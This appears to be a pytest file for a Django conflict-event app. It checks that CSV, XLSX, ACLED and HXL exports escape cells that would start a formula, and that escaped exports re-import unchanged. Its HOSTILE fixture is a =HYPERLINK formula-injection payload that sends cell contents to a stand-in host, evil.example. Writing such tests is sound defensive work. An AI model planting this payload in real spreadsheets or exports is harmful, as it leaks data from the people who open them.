"""No exported cell starts a formula: CSV, XLSX, ACLED and HXL (an event's place name typed as
``=HYPERLINK(...)`` stays text), and the export imports back unchanged."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from waspada.areas.models import Area
from waspada.events import services
from waspada.events.exchange import cells, exporter, importer
from waspada.events.models import Event

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.fixture
def hostile_event(personas):
    return services.create_event(
        user=personas["analyst"],
        event_date=date(2026, 11, 1),
        area=Area.objects.get(code="64.02.06"),
        location=HOSTILE,
        form="bentrok",
        actor1="+62 812 000",
        actor2="@massa",
        property_damage="-1 rumah",
        summary="\tBentrok warga",
    )


def _number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def _csv_cells(content: bytes) -> list[str]:
    """Text cells (a negative number such as -0.4194 is a number, not a formula)."""
    return [c for row in csv.reader(io.StringIO(content.decode())) for c in row if not _number(c)]


@pytest.mark.parametrize("fmt", ["csv", "hxl", "acled"])
def test_csv_exports_write_no_formula(hostile_event, fmt):
    content = exporter.EXPORTERS[fmt][0](Event.objects.all())
    values = _csv_cells(content)
    assert "'" + HOSTILE in values
    assert not [v for v in values if v.startswith(cells.FORMULA_STARTS)]


def test_the_xlsx_export_writes_no_formula(hostile_event):
    book = load_workbook(io.BytesIO(exporter.to_xlsx(Event.objects.all())))
    sheet = book.worksheets[0]
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + HOSTILE in values
    assert not [v for v in values if v.startswith(cells.FORMULA_STARTS)]


@pytest.mark.parametrize("fmt, name", [("csv", "e.csv"), ("xlsx", "e.xlsx")])
def test_the_escaped_export_imports_back_unchanged(hostile_event, personas, fmt, name):
    content = exporter.EXPORTERS[fmt][0](Event.objects.all())
    Event.objects.all().delete()
    batch, preview = importer.stage(content, name, personas["analyst"])
    assert preview.ok, preview.errors
    importer.commit(batch, personas["analyst"])
    event = Event.objects.get()
    assert event.location == HOSTILE and event.actor2 == "@massa"
